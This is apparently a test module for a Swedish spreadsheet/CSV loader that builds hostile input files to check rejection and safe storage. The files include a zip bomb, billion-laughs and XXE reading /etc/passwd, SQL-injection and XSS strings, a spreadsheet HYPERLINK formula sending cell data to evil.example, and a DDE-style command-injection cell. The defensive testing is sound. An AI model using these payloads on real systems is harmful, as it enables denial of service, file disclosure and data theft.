"""A corpus of hostile and odd input files, each built on the fly by a test (DESIGN §8, issue 7).

Every ``Case`` writes its file(s) into a directory and says what must happen when it is loaded into
a store that already holds the organisation of tests.workbooks:

- *accepted*: valid data in an odd form; ``check`` asserts the values that reached the store;
- *rejected*: a clear Swedish message (``message`` is a substring of one issue's ``message_sv``),
  naming sheet/row/column where they apply, and the store keeps what it had.

The files are built here rather than checked in so that each one is plainly what it claims to be
(a real zip bomb, a real encrypted workbook, a streamed million-row sheet, …).

``python -m tests.hostile_corpus URL PATH`` loads PATH into the store at URL and prints the result
as JSON: the tests run it in a child process with an address-space cap to measure time and memory.
"""

from __future__ import annotations

import datetime as dt
import json
import re
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session

from etl import models
from etl.schema import WORKBOOK_KINDS
from tests.workbooks import TODAY, admin_rows, write_admin, write_admin_csv

ACCEPTED, REJECTED = "accepted", "rejected"
ADMIN_SHEETS = [s.name for s in WORKBOOK_KINDS["administration"].sheets]


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Path], Path]  # writes into the directory, returns the path to load
    outcome: str  # accepted | rejected
    message: str = ""  # rejected: a substring of one issue's Swedish message
    sheet: str | None = None  # rejected: that issue's sheet, row and column (when they apply)
    row: int | None = None
    column: str | None = None
    check: Callable[[Engine], None] | None = None  # accepted: what must be in the store


# --------------------------------------------------------------------------- zip surgery


def sheet_part(sheet_name: str) -> str:
    """The part openpyxl writes an administration workbook's sheet to (sheets in schema order)."""
    return f"xl/worksheets/sheet{ADMIN_SHEETS.index(sheet_name) + 1}.xml"


def rewrite_zip(
    source: Path,
    target: Path,
    change: dict[str, Callable[[bytes], bytes]] | None = None,
    add: dict[str, bytes] | None = None,
) -> Path:
    """Copy an xlsx part by part, changing some parts and adding others."""
    change, add = change or {}, add or {}
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename in change:
                data = change[info.filename](data)
            dst.writestr(info.filename, data)
        for name, data in add.items():
            dst.writestr(name, data)
    return target


def _admin_variant(directory: Path, name: str, **change) -> Path:
    base = write_admin(directory / "base", name="base.xlsx")
    return rewrite_zip(base, directory / name, change or None)


def _prepend_xml(prologue: bytes) -> Callable[[bytes], bytes]:
    """Put ``prologue`` after the XML declaration of a part."""

    def apply(data: bytes) -> bytes:
        if not data.startswith(b"<?xml"):
            return prologue + data  # openpyxl writes some parts without a declaration
        declaration, _, rest = data.partition(b"?>")
        return declaration + b"?>" + prologue + rest

    return apply


# --------------------------------------------------------------------------- store checks


def asset_values(engine: Engine, column: str) -> dict[str, object]:
    with Session(engine) as s:
        rows = s.execute(select(models.Asset.code, getattr(models.Asset, column))).all()
    return dict(rows)


def expect_assets(**expected: object) -> Callable[[Engine], None]:
    """A check: the named asset columns hold exactly these values (code -> value)."""

    def check(engine: Engine) -> None:
        for column, values in expected.items():
            assert asset_values(engine, column) == values, column

    return check


NAMES = {"1882-SOC-T001": "Journalsystem", "1882-SOC-T002": "Schemaplanering",
         "1882-SOC-T003": "Pärm med avtal"}  # fmt: skip


def _rows_with_names(*names: str):
    rows = admin_rows()
    for asset, name in zip(rows["assets"], names, strict=False):
        asset["name"] = name
    return rows


# --------------------------------------------------------------------------- hostile xlsx


def zip_bomb(d: Path) -> Path:
    # 150 MB of zeros deflate to ~150 kB: a ratio of ~1000 (limit 200).
    return rewrite_zip(write_admin(d / "base"), d / "bomb.xlsx",
                       add={"xl/media/image1.bin": b"\0" * (150 * 1024 * 1024)})  # fmt: skip


def lying_zip_sizes(d: Path) -> Path:
    """A member whose directory entry claims 100 bytes but which inflates to 60 MB."""
    path = zip_bomb_small = d / "liar.xlsx"
    rewrite_zip(write_admin(d / "base"), path, add={"xl/media/a.bin": b"\0" * (60 * 1024 * 1024)})
    data = bytearray(path.read_bytes())
    name = b"xl/media/a.bin"
    # Patch the uncompressed size in both the local header and the central directory.
    for sig, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := data.find(sig, start)) != -1:
            name_at = start + (30 if sig == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(name)] == name:
                data[start + size_at : start + size_at + 4] = struct.pack("<I", 100)
            start += 4
    zip_bomb_small.write_bytes(bytes(data))
    return path


BILLION_LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>"
)


def billion_laughs(d: Path) -> Path:
    def explode(data: bytes) -> bytes:
        data = _prepend_xml(BILLION_LAUGHS)(data)
        return data.replace(b"<t>Journalsystem</t>", b"<t>&lol9;</t>", 1)

    return _admin_variant(d, "laughs.xlsx", **{sheet_part("Tillgångar"): explode})


def external_entity(d: Path) -> Path:
    xxe = b'<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    return _admin_variant(d, "xxe.xlsx", **{sheet_part("Tillgångar"): _prepend_xml(xxe)})


def dtd_after_long_comment(d: Path) -> Path:
    """The DTD hides behind 10 kB of comment, past where a scan of the first bytes would look."""
    prologue = b"<!--" + b"x" * 10_000 + b'--><!DOCTYPE x [<!ENTITY e "ett">]>'
    return _admin_variant(d, "padded.xlsx", **{"xl/workbook.xml": _prepend_xml(prologue)})


def absurd_dimension(d: Path) -> Path:
    def claim(data: bytes) -> bytes:
        return re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', data)

    parts = {sheet_part(name): claim for name in ADMIN_SHEETS}
    return _admin_variant(d, "dimension.xlsx", **parts)


def million_rows(d: Path) -> Path:
    """A Tillgångar sheet of 1 000 001 rows, streamed straight into the zip (seconds, not minutes)."""
    base = write_admin(d / "base")
    target = d / "miljon.xlsx"
    part = sheet_part("Tillgångar")
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != part:
                dst.writestr(info.filename, src.read(info))
                continue
            head = src.read(info).split(b"<sheetData>")[0]
            with dst.open(part, "w") as out:
                out.write(head + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
                          b"Tillg\xc3\xa5ngs-ID</t></is></c></row>")  # fmt: skip
                for start in range(2, 1_000_003, 10_000):
                    out.write(b"".join(
                        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>T%d</t></is></c></row>'
                        % (n, n, n) for n in range(start, min(start + 10_000, 1_000_003))
                    ))  # fmt: skip
                out.write(b"</sheetData></worksheet>")
    return target


def too_wide(d: Path) -> Path:
    path = d / "bred.xlsx"
    wb = load_workbook(write_admin(d / "base"))
    wb["Tillgångar"].cell(row=1, column=300, value="Kolumn 300")
    wb.save(path)
    return path


def truncated(d: Path) -> Path:
    data = write_admin(d / "base").read_bytes()
    path = d / "avbruten.xlsx"
    path.write_bytes(data[: len(data) // 2])
    return path


# --------------------------------------------------------------------------- wrong file types


def old_xls(d: Path) -> Path:
    path = d / "gammal.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096)
    return path


def ods_renamed(d: Path) -> Path:
    path = d / "kalkyl.xlsx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet",
                    compress_type=zipfile.ZIP_STORED)  # fmt: skip
        zf.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
        zf.writestr("content.xml", "<office:document-content/>")
    return path


def png_renamed(d: Path) -> Path:
    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
           + chunk(b"IDAT", zlib.compress(b"\0\xff\0\0")) + chunk(b"IEND", b""))  # fmt: skip
    path = d / "bild.xlsx"
    path.write_bytes(png)
    return path


def password_protected(d: Path) -> Path:
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = write_admin(d / "base")
    path = d / "losenord.xlsx"
    with plain.open("rb") as fh, path.open("wb") as out:
        OOXMLFile(fh).encrypt("hemligt", out)
    return path


def zero_bytes(d: Path) -> Path:
    path = d / "tom.xlsx"
    path.write_bytes(b"")
    return path


def empty_workbook(d: Path) -> Path:
    path = d / "tom-arbetsbok.xlsx"
    Workbook().save(path)
    return path


# --------------------------------------------------------------------------- odd sheets


def _edit(d: Path, name: str, edit: Callable, rows=None) -> Path:
    """Write the administration workbook, let ``edit`` change it with openpyxl, save as ``name``."""
    wb = load_workbook(write_admin(d / "base", rows))
    edit(wb)
    path = d / name
    wb.save(path)
    return path


def missing_sheet(d: Path) -> Path:
    return _edit(d, "utan-tillgangar.xlsx", lambda wb: wb.remove(wb["Tillgångar"]))


def renamed_sheet(d: Path) -> Path:
    def rename(wb):
        wb["Tillgångar"].title = "Tillgångar 2026"

    return _edit(d, "omdopt.xlsx", rename)


def duplicate_sheet(d: Path) -> Path:
    def copy(wb):
        wb.copy_worksheet(wb["Tillgångar"]).title = "TILLGÅNGAR "

    return _edit(d, "dubbel.xlsx", copy)


def extra_sheets(d: Path) -> Path:
    def add(wb):
        wb.create_sheet("Anteckningar").append(["Det här bladet läses inte in"])
        wb.create_sheet("Diagram", 0).append(["Först i boken"])

    return _edit(d, "extra.xlsx", add)


def title_rows_above_headers(d: Path) -> Path:
    def insert(wb):
        ws = wb["Tillgångar"]
        ws.insert_rows(1, 2)
        ws["A1"] = "Socialförvaltningens informationstillgångar 2026"

    return _edit(d, "rubrik.xlsx", insert)


def merged_cells(d: Path) -> Path:
    def merge(wb):
        ws = wb["Tillgångar"]  # Personuppgifter is column G; T002 says Ja, T003 Nej
        ws.merge_cells("G3:G4")

    return _edit(d, "sammanfogad.xlsx", merge)


def hidden_rows_and_columns(d: Path) -> Path:
    def hide(wb):
        ws = wb["Tillgångar"]
        ws.row_dimensions[3].hidden = True
        ws.column_dimensions["C"].hidden = True
        wb["Uppföljning"].sheet_state = "hidden"

    return _edit(d, "dolda.xlsx", hide)


def formulas_with_cached_values(d: Path) -> Path:
    def formulas(wb):
        ws = wb["Tillgångar"]
        ws["B2"] = '=UPPER("journalsystem")'
        ws["B3"] = '=CONCATENATE("Schema","planering")'

    path = _edit(d, "formler-raw.xlsx", formulas)
    cached = iter([b"JOURNALSYSTEM", b"Schemaplanering"])

    def add_cache(data: bytes) -> bytes:  # what Excel writes: the formula and its last result
        return re.sub(rb'(<c r="B[23]")([^>]*)><f>(.*?)</f><v\s*/?>(?:</v>)?',
                      lambda m: m[1] + b' t="str"><f>' + m[3] + b"</f><v>" + next(cached)
                      + b"</v>", data)  # fmt: skip

    return rewrite_zip(path, d / "formler.xlsx", {sheet_part("Tillgångar"): add_cache})


def formula_without_cached_value(d: Path) -> Path:
    def formulas(wb):
        wb["Tillgångar"]["B3"] = '=UPPER("schemaplanering")'  # never calculated: no <v>

    return _edit(d, "formel-utan-varde.xlsx", formulas)


def excel_date_serials(d: Path) -> Path:
    def serials(wb):
        ws = wb["Klassningar"]  # B = Klassningsdatum, C = Nästa översyn
        ws["B2"] = (dt.date(2026, 1, 15) - dt.date(1899, 12, 30)).days  # 46037
        ws["B2"].number_format = "General"
        ws["C2"] = "46402"  # 2027-01-15 typed as text

    return _edit(d, "serienummer.xlsx", serials)


def impossible_date(d: Path) -> Path:
    rows = admin_rows()
    rows["classifications"][1]["classified_on"] = "2026-02-30"
    return write_admin(d, rows, name="omojligt-datum.xlsx")


def megabyte_name(d: Path) -> Path:
    rows = admin_rows()
    rows["assets"][1]["name"] = "A" * 1_000_000
    return write_admin(d, rows, name="lang-text.xlsx")


def megabyte_description(d: Path) -> Path:
    rows = admin_rows()
    # ~1 MB of free text; calamine cuts cells at Excel's 32 767 characters, and the validator's
    # cap for free text is lower, so the cut text is refused rather than stored truncated.
    rows["risks"][0]["description"] = "Obehörig åtkomst " * 60_000
    return write_admin(d, rows, name="lang-beskrivning.xlsx")


def emoji_and_rtl(d: Path) -> Path:
    rows = _rows_with_names("Journal 🔐🧾 👩🏽‍⚕️", "سجل المواعيد ‏(RTL)‏", "פנקס חוזים")
    return write_admin(d, rows, name="emoji.xlsx")


SQL_TEXT = "Robert'); DROP TABLE asset;--"
HTML_TEXT = "<script>alert('x')</script><img src=x onerror=alert(1)>"
FORMULA_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'


def sql_and_html_text(d: Path) -> Path:
    def formula_as_text(wb):  # what Excel stores for '=… typed as text (openpyxl would compute)
        cell = wb["Tillgångar"]["H4"]  # Registerförteckning of T003
        cell.value = FORMULA_TEXT
        cell.data_type = "s"

    rows = _rows_with_names(SQL_TEXT, HTML_TEXT, "Pärm med avtal")
    return _edit(d, "sql-html.xlsx", formula_as_text, rows)


def sql_in_cover_code(d: Path) -> Path:
    rows = admin_rows()
    rows["cover"][0]["code"] = "1882-SOC' OR '1'='1"
    return write_admin(d, rows, name="sql-kod.xlsx")


# --------------------------------------------------------------------------- CSV sets


def _csv_set(d: Path, **kwargs) -> Path:
    return write_admin_csv(d / "csv", **kwargs)


def _rewrite_member(first: Path, slug: str, change: Callable[[bytes], bytes]) -> None:
    member = first.with_name(first.name.replace(".tillgangar.", f".{slug}."))
    member.write_bytes(change(member.read_bytes()))


def csv_bom_comma(d: Path) -> Path:
    return _csv_set(d, encoding="utf-8-sig", delimiter=",")


def csv_utf16_tabs(d: Path) -> Path:
    """Excel's "Unicode text": UTF-16 with a BOM, tab-separated."""
    first = _csv_set(d)
    for member in first.parent.glob("*.csv"):
        text = member.read_text(encoding="utf-8").replace(";", "\t")
        member.write_bytes(text.encode("utf-16"))
    return first


def csv_mixed_encodings(d: Path) -> Path:
    """One set, one file per encoding; and one file whose lines mix UTF-8 and Windows-1252."""
    rows = _rows_with_names("Journalsystem", "Schemaläggning", "Pärm med avtal")
    first = _csv_set(d, rows=rows)
    _rewrite_member(first, "risker", lambda b: b.decode("utf-8").encode("cp1252"))

    def mix(data: bytes) -> bytes:
        lines = data.decode("utf-8").splitlines(keepends=True)
        lines[3] = lines[3].encode("cp1252").decode("latin-1")  # T003 in Windows-1252
        return b"".join(
            line.encode("latin-1" if i == 3 else "utf-8") for i, line in enumerate(lines)
        )

    first.write_bytes(mix(first.read_bytes()))
    return first


def csv_date_serials(d: Path) -> Path:
    rows = admin_rows()
    rows["classifications"][0]["classified_on"] = "46037"  # 2026-01-15
    rows["classifications"][0]["next_review_on"] = "15 jan. 2027"
    return _csv_set(d, rows=rows)


def csv_nul_bytes(d: Path) -> Path:
    first = _csv_set(d)
    _rewrite_member(first, "risker", lambda b: b.replace(b"Driftstopp", b"Drift\x00stopp"))
    return first


def csv_unbalanced_quote(d: Path) -> Path:
    first = _csv_set(d)
    _rewrite_member(first, "atgarder", lambda b: b.replace(b"Revidera", b'"Revidera', 1))
    return first


def csv_megabyte_cell(d: Path) -> Path:
    rows = admin_rows()
    rows["risks"][1]["description"] = "Driftstopp " * 100_000  # 1,1 MB in one CSV field
    return _csv_set(d, rows=rows)


def csv_formula_text(d: Path) -> Path:
    rows = admin_rows()
    rows["assets"][0]["register_ref"] = FORMULA_TEXT
    rows["assets"][1]["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    return _csv_set(d, rows=rows)


# --------------------------------------------------------------------------- a large valid set


def big_admin_rows(n: int) -> dict[str, list[dict[str, object]]]:
    """A valid 1882-SOC workbook with ``n`` assets (for crash and concurrency tests): n assets,
    4n/5 classifications, n/2 risk analyses and risks, n/4 actions, against tests.workbooks' org."""
    day = dt.date
    statuses = ["Ej påbörjad", "Pågår", "Klar", "Avbruten"]
    return {
        "cover": [{"kind": "Förvaltning", "code": "1882-SOC", "prepared_by": "Olle Strand"}],
        "assets": [
            {"code": f"1882-SOC-T{i:06d}", "name": f"Tillgång {i}", "carrier_type": "IT-system",
             "owners": ["1882-SOC-IFO", "1882-SOC-HT"] if i % 3 == 0
             else ["1882-SOC-HT" if i % 2 else "1882-SOC-IFO"],
             "personal_data": ["Nej", "Ja", "Känsliga"][i % 3],
             "register_ref": f"RF-{i}" if i % 4 else None}
            for i in range(n)
        ],
        "classifications": [
            {"asset": f"1882-SOC-T{i:06d}", "classified_on": day(2022 + i % 4, 1 + i % 12, 1 + i % 28),
             "confidentiality": i % 5, "integrity": (i + 1) % 5, "availability": (i + 2) % 5}
            for i in range(n) if i % 5
        ],
        "risk_analyses": [
            {"code": f"1882-SOC-RA{i:06d}", "asset": f"1882-SOC-T{i:06d}",
             "analysed_on": day(2024 + i % 2, 1 + i % 12, 1)}
            for i in range(0, n, 2)
        ],
        "risks": [
            {"code": f"1882-SOC-R{i:06d}", "analysis": f"1882-SOC-RA{i:06d}", "description": "Risk",
             "likelihood": 1 + i % 4, "consequence": 1 + (i // 2) % 4, "treatment": "Reducera"}
            for i in range(0, n, 2)
        ],
        "actions": [
            {"code": f"1882-SOC-A{i:06d}", "title": "Åtgärd", "risk": f"1882-SOC-R{i:06d}",
             "owner_unit": "1882-SOC-IFO", "due_on": day(2026, 1 + i % 12, 1),
             "status": statuses[i % 4], "completed_on": day(2026, 1, 1) if i % 4 == 2 else None}
            for i in range(0, n, 4)
        ],
    }  # fmt: skip


def write_big_admin_csv(directory: Path, n: int) -> Path:
    """``big_admin_rows(n)`` as a CSV set (fast to write and read); the path of its asset file."""
    return write_admin_csv(directory, big_admin_rows(n))


# --------------------------------------------------------------------------- the corpus


def _risk_description(engine: Engine) -> dict[str, str]:
    with Session(engine) as s:
        return dict(s.execute(select(models.Risk.code, models.Risk.description)).all())


def _classification_dates(engine: Engine) -> dict[str, tuple]:
    with Session(engine) as s:
        rows = s.execute(
            select(models.Asset.code, models.Classification.classified_on,
                   models.Classification.next_review_on).join(models.Asset)
        ).all()  # fmt: skip
    return {code: (a, b) for code, a, b in rows}


def _check_serials(engine: Engine) -> None:
    assert _classification_dates(engine)["1882-SOC-T001"] == (dt.date(2026, 1, 15),
                                                              dt.date(2027, 1, 15))  # fmt: skip


def _check_all_admin_rows(engine: Engine) -> None:
    expect_assets(name=NAMES)(engine)
    assert len(_risk_description(engine)) == 2


CASES: list[Case] = [
    # refused before a byte is parsed
    Case("zip_bomb", zip_bomb, REJECTED, "zip-bomb"),
    Case("lying_zip_sizes", lying_zip_sizes, REJECTED, "skadad"),
    Case("billion_laughs", billion_laughs, REJECTED, "DTD"),
    Case("external_entity", external_entity, REJECTED, "DTD"),
    Case("dtd_after_long_comment", dtd_after_long_comment, REJECTED, "DTD"),
    Case("million_rows", million_rows, REJECTED, "Bladet är för stort", sheet="Tillgångar"),
    Case("too_wide", too_wide, REJECTED, "Bladet är för stort", sheet="Tillgångar"),
    Case("truncated", truncated, REJECTED, "skadad"),
    Case("old_xls", old_xls, REJECTED, "gamla Excel-formatet .xls"),
    Case("ods_renamed", ods_renamed, REJECTED, "OpenDocument"),
    Case("png_renamed", png_renamed, REJECTED, "ingen Excel-arbetsbok"),
    Case("password_protected", password_protected, REJECTED, "lösenordsskyddad"),
    Case("zero_bytes", zero_bytes, REJECTED, "ingen Excel-arbetsbok"),
    # readable, but wrong
    Case("empty_workbook", empty_workbook, REJECTED, "Bladet Uppgifter saknas", sheet="Uppgifter"),
    Case("missing_sheet", missing_sheet, REJECTED, "Bladet Tillgångar saknas", sheet="Tillgångar"),
    Case("renamed_sheet", renamed_sheet, REJECTED, "Bladet Tillgångar saknas", sheet="Tillgångar"),
    Case("duplicate_sheet", duplicate_sheet, REJECTED, "finns två gånger", sheet="TILLGÅNGAR "),
    Case("formula_without_cached_value", formula_without_cached_value, REJECTED,
         "Värde saknas i kolumnen Namn", "Tillgångar", 3, "Namn"),
    Case("impossible_date", impossible_date, REJECTED, "finns inte i kalendern", "Klassningar", 3,
         "Klassningsdatum"),
    Case("megabyte_name", megabyte_name, REJECTED, "Texten är för lång", "Tillgångar", 3, "Namn"),
    Case("megabyte_description", megabyte_description, REJECTED, "Texten är för lång", "Risker",
         2, "Beskrivning"),
    Case("sql_in_cover_code", sql_in_cover_code, REJECTED, "finns inte i organisationen",
         "Uppgifter", 3, "Kod"),
    Case("csv_nul_bytes", csv_nul_bytes, REJECTED, "binära tecken (NUL) på rad 3"),
    Case("csv_unbalanced_quote", csv_unbalanced_quote, REJECTED, "från rad 3"),
    Case("csv_megabyte_cell", csv_megabyte_cell, REJECTED, "orimligt långt värde på rad 3"),
    # valid data in an odd form
    Case("absurd_dimension", absurd_dimension, ACCEPTED, check=_check_all_admin_rows),
    Case("extra_sheets", extra_sheets, ACCEPTED, check=_check_all_admin_rows),
    Case("title_rows_above_headers", title_rows_above_headers, ACCEPTED,
         check=_check_all_admin_rows),
    Case("merged_cells", merged_cells, ACCEPTED, check=expect_assets(personal_data={
        "1882-SOC-T001": "sensitive", "1882-SOC-T002": "yes", "1882-SOC-T003": "yes"})),
    Case("hidden_rows_and_columns", hidden_rows_and_columns, ACCEPTED,
         check=expect_assets(name=NAMES, carrier_name={"1882-SOC-T001": "Procapita",
                                                       "1882-SOC-T002": None,
                                                       "1882-SOC-T003": None})),
    Case("formulas_with_cached_values", formulas_with_cached_values, ACCEPTED,
         check=expect_assets(name={**NAMES, "1882-SOC-T001": "JOURNALSYSTEM"})),
    Case("excel_date_serials", excel_date_serials, ACCEPTED, check=_check_serials),
    Case("emoji_and_rtl", emoji_and_rtl, ACCEPTED, check=expect_assets(name={
        "1882-SOC-T001": "Journal 🔐🧾 👩🏽‍⚕️", "1882-SOC-T002": "سجل المواعيد ‏(RTL)‏",
        "1882-SOC-T003": "פנקס חוזים"})),
    Case("sql_and_html_text", sql_and_html_text, ACCEPTED, check=expect_assets(
        name={"1882-SOC-T001": SQL_TEXT, "1882-SOC-T002": HTML_TEXT,
              "1882-SOC-T003": "Pärm med avtal"},
        register_ref={"1882-SOC-T001": "RF-12", "1882-SOC-T002": None,
                      "1882-SOC-T003": FORMULA_TEXT})),
    Case("csv_bom_comma", csv_bom_comma, ACCEPTED, check=_check_all_admin_rows),
    Case("csv_utf16_tabs", csv_utf16_tabs, ACCEPTED, check=_check_all_admin_rows),
    Case("csv_mixed_encodings", csv_mixed_encodings, ACCEPTED, check=expect_assets(name={
        "1882-SOC-T001": "Journalsystem", "1882-SOC-T002": "Schemaläggning",
        "1882-SOC-T003": "Pärm med avtal"})),
    Case("csv_date_serials", csv_date_serials, ACCEPTED, check=_check_serials),
    Case("csv_formula_text", csv_formula_text, ACCEPTED, check=expect_assets(
        register_ref={"1882-SOC-T001": FORMULA_TEXT, "1882-SOC-T002": None,
                      "1882-SOC-T003": None},
        name={**NAMES, "1882-SOC-T002": "@SUM(1+1)*cmd|' /C calc'!A0"})),
]  # fmt: skip


# --------------------------------------------------------------------------- child process


def peak_rss_kb() -> int:
    """This process's peak RSS since its exec (VmHWM): unlike ru_maxrss it does not include the
    pages of the parent it was forked from."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    return 0


def _main(url: str, path: str) -> None:
    """Load ``path`` into ``url`` as ``infosak load`` would and print the outcome as JSON."""
    from etl.db import make_engine
    from etl.load import load_paths

    engine = make_engine(url)
    run = load_paths(engine, [Path(path)], today=TODAY)
    engine.dispose()
    files = [
        {"outcome": f.outcome, "issues": [[i.file, i.sheet, i.row, i.column, i.message_sv]
                                          for i in f.issues]}
        for f in run.files
    ]  # fmt: skip
    json.dump({"files": files, "peak_rss_kb": peak_rss_kb()}, sys.stdout, ensure_ascii=False)


if __name__ == "__main__":
    _main(sys.argv[1], sys.argv[2])


__all__ = [
    "ACCEPTED",
    "CASES",
    "REJECTED",
    "Case",
    "big_admin_rows",
    "rewrite_zip",
    "sheet_part",
    "write_big_admin_csv",
]
